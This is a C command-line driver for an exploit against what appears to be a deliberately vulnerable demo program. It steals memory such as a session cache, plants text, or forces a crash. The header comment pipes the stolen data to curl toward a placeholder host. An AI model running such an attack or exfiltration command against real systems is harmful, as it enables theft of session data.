/* SPDX-License-Identifier: MIT */
/*
 * Prints a body that takes the demo's guest program over (exploit.h).
 *
 *	attack PROGRAM steal [SYMBOL [BYTES]]	answer with memory (default: session_cache)
 *	attack PROGRAM plant [TEXT]		leave a text in `notice`, which the greeting shows
 *	attack PROGRAM crash			jump to an address that is none
 *
 * For example: attack build/stanza steal | curl --data-binary @- http://HOST:PORT/
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "exploit.h"

static int usage(void)
{
	fprintf(stderr, "usage: attack PROGRAM steal [SYMBOL [BYTES]] | plant [TEXT] | crash\n");
	return 2;
}

int main(int argc, char **argv)
{
	const char *what = argc > 2 ? argv[2] : "";
	const char *more = argc > 3 ? argv[3] : NULL;
	int rc = 0;

	if (strcmp(what, "steal") == 0)
		rc = exploit_steal(stdout, argv[1], more, argc > 4 ? strtoul(argv[4], NULL, 0) : 0);
	else if (strcmp(what, "plant") == 0)
		rc = exploit_plant(stdout, argv[1], more);
	else if (strcmp(what, "crash") == 0)
		exploit_crash(stdout);
	else
		return usage();
	return rc < 0 || fflush(stdout) != 0;
}
